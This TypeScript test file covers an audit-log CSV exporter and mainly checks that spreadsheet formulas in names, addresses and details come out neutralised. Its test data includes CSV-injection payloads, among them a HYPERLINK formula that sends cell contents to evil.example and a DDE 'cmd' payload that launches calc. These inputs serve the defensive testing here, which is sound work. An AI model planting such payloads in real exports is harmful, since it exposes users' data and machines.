import assert from "node:assert/strict";
import { describe, it } from "node:test";
import Papa from "papaparse";
import { auditCsv } from "#src/services/audit/audit-csv.ts";
import type { AuditRecord } from "#src/stores/records.ts";
import { makeId } from "#src/stores/ids.ts";

const MARK = "\ufeff";

async function csvOf(...lines: readonly AuditRecord[]): Promise<string> {
  const pieces: string[] = [];
  for await (const piece of auditCsv(listed(lines))) pieces.push(piece);
  return pieces.join("");
}

async function* listed(lines: readonly AuditRecord[]): AsyncGenerator<AuditRecord> {
  yield* lines;
}

function line(parts: Partial<AuditRecord> = {}): AuditRecord {
  return {
    at: "2026-11-22T10:00:00.000Z",
    action: "user.added",
    actor: "console",
    actorName: "console",
    ...parts,
  };
}

function cells(csv: string): readonly (readonly string[])[] {
  return Papa.parse<string[]>(csv.slice(MARK.length), { skipEmptyLines: true }).data;
}

describe("the audit as a file", () => {
  it("begins with the mark and the names of its columns, and ends every line as spreadsheets do", async () => {
    const csv = await csvOf(line());
    assert.equal(
      csv,
      `${MARK}time (UTC),action,actor id,actor,subject id,subject,address,request,detail\r\n` +
        "2026-11-22T10:00:00.000Z,user.added,console,console,,,,,\r\n",
    );
    assert.equal((await csvOf()).split("\r\n").length, 2);
  });

  it("says who did what to whom, from where, in which request and how", async () => {
    const [subject, actor] = [makeId<"user">(), makeId<"user">()];
    const row = cells(
      await csvOf(
        line({
          action: "user.role_changed",
          actor,
          actorName: "ada",
          subject,
          subjectName: "tom",
          address: "192.168.1.20",
          request: "K7-4201",
          detail: { from: "student", to: "teacher", places: 3, kept: true },
        }),
      ),
    )[1];
    assert.deepEqual(row, [
      "2026-11-22T10:00:00.000Z",
      "user.role_changed",
      actor,
      "ada",
      subject,
      "tom",
      "192.168.1.20",
      "K7-4201",
      "from=student; to=teacher; places=3; kept=true",
    ]);
  });

  const formulas = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1\nnext line",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@",
    "-",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    '="quoted"',
  ];
  for (const [index, formula] of formulas.entries()) {
    it(`hands no formula to a spreadsheet: ${index + 1}`, async () => {
      for (const field of ["actorName", "subjectName", "address", "request"] as const) {
        const [, row] = cells(await csvOf(line({ [field]: formula })));
        assert.ok(row?.includes(`'${formula}`), `${field}: ${JSON.stringify(row)}`);
        assert.equal(row?.length, 9);
      }
      const [, row] = cells(await csvOf(line({ detail: { device: formula } })));
      assert.equal(row?.at(-1), `device=${formula}`);
    });
  }

  it("hands none to one that takes semicolons for the ends of cells", async () => {
    const name = 'Eve;=HYPERLINK("http://evil.example/?x="&A1); @SUM(A1);-1;\uff1d1; x';
    const text = await csvOf(line({ subjectName: name, detail: { displayTo: name } }));
    const pieces = text.split(/[;\r\n]+/).map((piece) => piece.trim());
    assert.deepEqual(
      pieces.filter((piece) => /^"?[=+\-@\uff1d]/.test(piece)),
      [],
    );
    assert.equal(pieces.filter((piece) => piece.startsWith("'=HYPERLINK")).length, 2);
    assert.equal(pieces.filter((piece) => piece.startsWith("'\uff1d1")).length, 2);
  });

  it("keeps quotes, commas, line breaks and letters of every kind in their cell", async () => {
    for (const text of [
      'say "hi", then go',
      "two\nlines",
      "two\r\nlines",
      '"',
      "سارة\u200f",
      "👩🏽‍🔬",
      "a".repeat(100),
      " x ",
    ]) {
      const rows = cells(await csvOf(line({ subjectName: text }), line({ subjectName: "next" })));
      assert.deepEqual([rows[1]?.[5], rows[2]?.[5], rows.length], [text, "next", 3]);
    }
  });

  it("comes in pieces, each of whole lines", async () => {
    const many = Array.from({ length: 1001 }, (_, index) => line({ request: `R-${index}` }));
    const pieces: string[] = [];
    for await (const piece of auditCsv(listed(many))) pieces.push(piece);
    assert.ok(pieces.length > 5);
    assert.ok(pieces.every((piece) => piece.endsWith("\r\n")));
    const rows = cells(pieces.join(""));
    assert.deepEqual(
      rows.slice(1).map((row) => row.at(7)),
      many.map(({ request }) => request),
    );
  });
});
